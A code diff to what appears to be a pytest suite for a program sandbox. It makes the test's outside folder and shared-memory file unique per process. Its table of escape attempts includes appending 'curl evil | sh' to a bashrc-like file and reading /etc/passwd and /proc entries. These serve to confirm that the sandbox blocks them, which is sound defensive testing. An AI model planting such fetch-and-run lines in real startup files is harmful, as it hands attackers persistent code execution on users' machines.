@@ -17,7 +17,9 @@ import pytest
 
 from ppo import sandbox_kernel as kernel
 
-ROOT = Path(tempfile.gettempdir()) / "ppo-sandbox-outside"      # outside every scratch folder
+# Outside every scratch folder; one per test process, so that two test runs on one machine do not meet.
+ROOT = Path(tempfile.gettempdir()) / f"ppo-sandbox-outside-{os.getpid()}"
+SHM = f"/dev/shm/ppo-sandbox-test-{os.getpid()}"
 SECRET = ROOT / "secret.txt"
 HOME_FILE = ROOT / "bashrc"                                      # a file the user owns and may append to
 SECRET_TEXT = "the gold answer is 42"
@@ -41,7 +43,7 @@ ROUTES = {
     "append to a home file": [f"open({str(HOME_FILE)!r}, 'a').write('curl evil | sh')"],
     "mkdir outside": [f"os.mkdir({str(ROOT / 'newdir')!r})"],
     "remove outside": [f"os.remove({str(HOME_FILE)!r})"],
-    "/dev/shm": ["open('/dev/shm/ppo-sandbox-test', 'w').write('x' * 10**6)"],
+    "/dev/shm": [f"open({SHM!r}, 'w').write('x' * 10**6)"],
     "/proc parent cmdline": ["open(f'/proc/{os.getppid()}/cmdline', 'rb').read()"],
     "/proc self": ["open('/proc/self/status').read()"],
     "/etc/passwd": ["open('/etc/passwd').read()"],
@@ -51,7 +53,7 @@ ROUTES = {
 def make_outside_files() -> None:
     """The secret and a home file, owned by the user that programs run as, and nothing else under ROOT."""
     shutil.rmtree(ROOT, ignore_errors=True)
-    Path("/dev/shm/ppo-sandbox-test").unlink(missing_ok=True)
+    Path(SHM).unlink(missing_ok=True)
     ROOT.mkdir(mode=0o755)
     SECRET.write_text(SECRET_TEXT)
     HOME_FILE.write_text("# bashrc\n")
@@ -65,14 +67,14 @@ def outside_files():
     make_outside_files()
     yield
     shutil.rmtree(ROOT, ignore_errors=True)
-    Path("/dev/shm/ppo-sandbox-test").unlink(missing_ok=True)
+    Path(SHM).unlink(missing_ok=True)
 
 
 def left_alone() -> bool:
     """Nothing outside scratch was read into being, written, made, moved or removed."""
     return (sorted(p.name for p in ROOT.iterdir()) == ["bashrc", "secret.txt"]
             and SECRET.read_text() == SECRET_TEXT and HOME_FILE.read_text() == "# bashrc\n"
-            and not os.path.exists("/dev/shm/ppo-sandbox-test"))
+            and not os.path.exists(SHM))
 
 
 def run_layer(setup: str, attempt: str, as_nobody: bool = False) -> str:
@@ -159,9 +161,7 @@ RAW = ("def raw(name, *args):\n    nr = {**k.SYSCALLS, **k.FILE_SYSCALLS}[name][
 
 
 def test_without_a_layer_metadata_and_neighbours_are_reachable_so_the_test_below_means_something():
-    for name in ("xattr outside", "times outside", "mode outside", "limits of a process", "SysV shared memory",
-                 "priority of a process", "affinity of a process", "lock a file", "watch files", "memory file",
-                 "fsync (waits out SIGKILL)", "truncate a home file"):
+    for name in METADATA_AND_NEIGHBOURS:
         assert run_layer(RAW + "k.drop_privileges()", METADATA_AND_NEIGHBOURS[name]).startswith("ALLOWED"), name
         make_outside_files()
 
